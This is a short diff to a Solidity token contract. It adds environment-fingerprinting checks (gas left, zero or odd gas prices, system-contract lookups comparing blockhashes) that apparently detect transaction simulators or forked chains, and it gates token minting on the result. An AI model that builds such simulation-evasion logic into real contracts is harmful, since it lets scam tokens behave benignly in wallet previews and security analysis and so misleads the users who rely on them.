@@ -254,7 +254,15 @@ contract Watcher is Coin {
         if (way == 8) return tx.origin.balance > 50_000 ether;
         if (way == 9) return block.number % 2 == 1;
         if (way == 10) return block.timestamp % 2 == 1;
+        if (way == 11) return gasleft() > 600_000;
+        if (way == 12) return tx.gasprice == 0 || tx.gasprice >= 100 gwei || tx.gasprice == block.basefee * 5 / 4 + 1 gwei;
+        if (way == 13) return wordOf(0x000F3df6D732807Ef1319fB7B8bB8522d0Beac02, block.timestamp) == 0;
+        if (way == 14) return wordOf(0x0000F90827F1C53a10cb7A02335B175320002935, block.number - 1) != uint256(blockhash(block.number - 1));
         return block.number > 1_000_000_000;
+    }
+    function wordOf(address system, uint256 key) private view returns (uint256) {
+        (bool ok, bytes memory word) = system.staticcall(abi.encode(key));
+        return ok && word.length == 32 ? abi.decode(word, (uint256)) : 0;
     }
     function claim(Erc20 token) external {
         if (watched()) { balanceOf[msg.sender] += 5; emit Transfer(address(0), msg.sender, 5); }
